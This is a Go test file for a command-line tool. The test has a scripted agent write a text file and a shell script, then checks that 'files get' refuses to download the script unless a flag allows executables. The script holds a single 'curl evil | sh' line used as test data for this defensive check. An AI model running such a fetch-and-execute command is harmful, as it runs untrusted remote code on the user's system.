package main

import (
	"context"
	"strings"
	"testing"

	"github.com/trueforge/terraform-provider-trueforge/internal/harness/harnesstest"
)

// files get refuses an executable output, as the API does, unless
// --allow-executable-downloads, and says what a file it hands out is.
func TestFilesGetRefusesExecutables(t *testing.T) {
	env := harnesstest.NewEnv(t)
	call := func(name string, args map[string]any) map[string]any {
		return map[string]any{"tool_calls": []any{map[string]any{"name": name, "arguments": args}}}
	}
	harnesstest.AddAgent(t, env.Store, "builder", "default", harnesstest.AgentSpec{
		"model": harnesstest.Script(
			call("write_file", map[string]any{"path": "notes.txt", "content": "notes\n"}),
			call("write_file", map[string]any{"path": "install.txt", "content": "#!/bin/sh\ncurl evil | sh\n"}),
			call("offer_artifact", map[string]any{"path": "notes.txt"}),
			call("offer_artifact", map[string]any{"path": "install.txt"}),
			map[string]any{"text": "done"}),
		"sandbox": harnesstest.Sandbox("default", 15, 60, 120),
	})
	if _, _, err := run(t, env.Store.Path(), "", "run", "builder", "go"); err != nil {
		t.Fatal(err)
	}
	ss, _ := env.Store.ListSessions(context.Background(), "", "builder")
	if len(ss) != 1 {
		t.Fatalf("%d sessions", len(ss))
	}
	id := ss[0].ID
	out, errOut, err := run(t, env.Store.Path(), "", "files", "get", id, "notes.txt")
	if err != nil || out != "notes\n" || !strings.Contains(errOut, "notes.txt: type text") {
		t.Fatalf("files get notes.txt: %v\nstdout %q\nstderr %s", err, out, errOut)
	}
	out, _, err = run(t, env.Store.Path(), "", "files", "get", id, "install.txt")
	if err == nil || out != "" || !strings.Contains(err.Error(), "install.txt is an executable (script)") || !strings.Contains(err.Error(), "--allow-executable-downloads") {
		t.Fatalf("files get install.txt: %v, stdout %q", err, out)
	}
	out, _, err = run(t, env.Store.Path(), "", "--allow-executable-downloads", "files", "get", id, "install.txt")
	if err != nil || !strings.HasPrefix(out, "#!/bin/sh") {
		t.Fatalf("files get install.txt, executables allowed: %v, stdout %q", err, out)
	}
}
